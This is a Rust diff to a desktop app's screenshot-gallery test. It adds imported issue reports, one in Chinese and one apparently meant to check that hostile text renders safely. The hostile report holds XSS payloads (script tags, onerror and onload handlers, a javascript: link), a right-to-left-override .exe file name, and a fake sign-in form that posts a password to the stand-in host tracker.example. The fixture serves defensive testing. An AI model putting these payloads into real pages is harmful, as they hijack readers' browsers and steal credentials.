@@ -1,12 +1,20 @@
 //! Pictures of every view for the documentation, of the sample casebook alone; docs/gallery.md has the command and is
 //! written by it.
 
-use std::{fmt::Write as _, path::PathBuf, process::Command, sync::Mutex};
+use std::{
+    fmt::Write as _,
+    path::{Path, PathBuf},
+    process::Command,
+    sync::Mutex,
+};
 
 use fantoccini::{Client, key::Key};
+use precedent_core::Task;
+use precedent_engine::{Casebook, OpenOptions};
+use serde_json::json;
 
 use crate::{
-    driver::{drive, is_there, picture, press, press_ctrl, script, wait_for, wait_until},
+    driver::{drive, is_there, picture, press, press_ctrl, script, text, wait_for, wait_until},
     files::{read_log, write_log},
 };
 
@@ -14,7 +22,7 @@ const REPORT: &str = "Agents do not connect since we replaced the certificate\n\
     ERROR fw_agent::link tls: invalid peer certificate: UnknownIssuer\n\
     Please answer to mika@customer.example, host 192.0.2.41.";
 
-const SIZES: [(u32, u32); 2] = [(1600, 1000), (1024, 700)];
+const SIZES: [(u32, u32); 2] = [(1440, 900), (1024, 700)];
 const THEMES: [&str; 2] = ["light", "dark"];
 
 /// From here on no question of the window is answered.
@@ -78,7 +86,7 @@ async fn paste(window: &Client, css: &str, value: &str) {
     window.execute(field, vec![css.into(), value.into()]).await.unwrap();
 }
 
-async fn full(window: &Client, album: &Album) {
+async fn full(window: &Client, album: &Album, casebook: &Path) {
     let (enter, escape) = (char::from(Key::Enter), char::from(Key::Escape).to_string());
     press_ctrl(window, '1').await;
     wait_for(window, ".row.hit").await;
@@ -158,6 +166,23 @@ async fn full(window: &Client, album: &Album) {
     wait_for(window, "#palette").await;
     album.keep(window, "Commands", "palette").await;
     press(window, &escape).await;
+
+    // Last, as the other pictures are of the sample alone.
+    bring_others(casebook).await;
+    press_ctrl(window, '1').await;
+    for (key, what, name) in [
+        ("acme/pump#2", "A report in Chinese", "chinese"),
+        ("acme/pump#3", "A report that attacks its reader", "hostile"),
+    ] {
+        press_ctrl(window, 'k').await;
+        wait_for(window, "#palette").await.send_keys(&format!("{key}{enter}")).await.unwrap();
+        wait_until("it is read", async || {
+            text(window, "article .where").await.contains(key) && is_there(window, "article .prose").await
+        })
+        .await;
+        settled(window).await;
+        album.keep(window, what, name).await;
+    }
 }
 
 /// Every view while the engine does not answer, or answers with a failure.
@@ -191,6 +216,43 @@ async fn unanswered(window: &Client, album: &Album, how: &str, words: &str, end:
     }
 }
 
+/// Reports that the sample has none of: in Chinese, and of a text that attacks.
+const OTHERS: [(u32, &str, &str); 3] = [
+    (1, "The pump does not start after the update", "It stops with PUMP-31."),
+    (
+        2,
+        "更新证书后同步停止:日志反复显示“证书由未知机构签发”",
+        "更新证书链之后,代理程序不再读取新的证书,见 #1。版本 **2.3.1** 有此问题,2.2.0 正常。\n\n```\n错误:证书链不完整(尝试 7)\n```\n\n> 请先重启代理程序。",
+    ),
+    (
+        3,
+        "<img src=x onerror=alert(1)> \u{202e}gpj.exe <script>alert(2)</script>",
+        "<script>alert(1)</script><p style='position:fixed;inset:0'>over everything</p>\n\n[click](javascript:alert(1)) ![picture](https://tracker.example/spy.png)\n\n\
+         <form action='https://tracker.example'><input name=password><button>Sign in</button></form>\n\n| a | b |\n|---|---|\n| <iframe src='https://tracker.example'></iframe> | `<svg onload=alert(1)>` |\n\n\
+         > > > > > > deep\n\nxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
+    ),
+];
+
+/// Brings them into the casebook that the window has open, as another process would.
+async fn bring_others(casebook: &Path) {
+    let records: String = OTHERS
+        .iter()
+        .map(|(number, title, body)| {
+            let record = json!({
+                "number": number, "id": number, "title": title, "body": body, "state": "open", "user": {"login": "mika"}, "comments": 0,
+                "created_at": "2026-01-05T08:00:00Z", "updated_at": "2026-01-05T08:00:00Z", "labels": [],
+                "html_url": format!("https://tracker.example/acme/pump/issues/{number}"),
+            });
+            format!("{record}\n")
+        })
+        .collect();
+    let file = casebook.with_file_name("others.jsonl");
+    std::fs::write(&file, records).unwrap();
+    let open = Casebook::open(OpenOptions::new(casebook)).await.unwrap();
+    open.import_github("acme/pump", &file, &Task::new()).await.unwrap();
+    open.update_index(&Task::new()).await.unwrap();
+}
+
 async fn empty(window: &Client, album: &Album) {
     wait_for(window, ".welcome").await;
     album.keep(window, "The first start", "welcome").await;
@@ -212,7 +274,7 @@ async fn empty(window: &Client, album: &Album) {
 fn page(kept: &[(String, String)]) -> String {
     let mut out = String::from(
         "# Gallery\n\nEvery view with the sample casebook, whose texts are invented: full, empty, while the engine does not answer, and when it\n\
-         answers with a failure; light and dark, 1600 × 1000 and 1024 × 700. Made again, and this page with it, by:\n\n```\n\
+         answers with a failure; light and dark, 1440 × 900 and 1024 × 700. Made again, and this page with it, by:\n\n```\n\
          xvfb-run -a -s '-screen 0 1700x1100x24 -nolisten tcp' dbus-run-session -- \\\n    \
          cargo test -p precedent-desktop --test window -- --ignored gallery\n```\n\n\
          `pngquant`, where it is installed, makes the pictures small.\n\n| | light | dark |\n|---|---|---|\n",
@@ -220,9 +282,10 @@ fn page(kept: &[(String, String)]) -> String {
     for (what, name) in kept {
         let _ = writeln!(
             out,
-            "| {what} ([small](gallery/{name}-1024-light.png), [dark](gallery/{name}-1024-dark.png)) | ![](gallery/{name}-1600-light.png) | ![](gallery/{name}-1600-dark.png) |"
+            "| {what} ([small](gallery/{name}-1024-light.png), [dark](gallery/{name}-1024-dark.png)) | ![](gallery/{name}-1440-light.png) | ![](gallery/{name}-1440-dark.png) |"
         );
     }
+    out.push_str(include_str!("gallery-notes.md"));
     out
 }
 
@@ -235,6 +298,7 @@ async fn gallery() {
     for size in SIZES {
         let home = tempfile::tempdir().unwrap();
         let casebook = home.path().join("casebook");
+        let opened = casebook.clone();
         let args = ["--casebook", casebook.to_str().unwrap()];
         drive(home.path(), "Adwaita", &args, async move |window| {
             let album = Album::new(size);
@@ -244,7 +308,7 @@ async fn gallery() {
             script(&window, "document.querySelector('.welcome .primary').click()").await;
             wait_for(&window, "#hit-0").await;
             settled(&window).await;
-            full(&window, &album).await;
+            full(&window, &album, &opened).await;
             unanswered(&window, &album, SILENCE, "while it is asked for", "loading").await;
             unanswered(&window, &album, FAILURE, "when it fails", "failing").await;
             let mut kept = album.kept.lock().unwrap().clone();
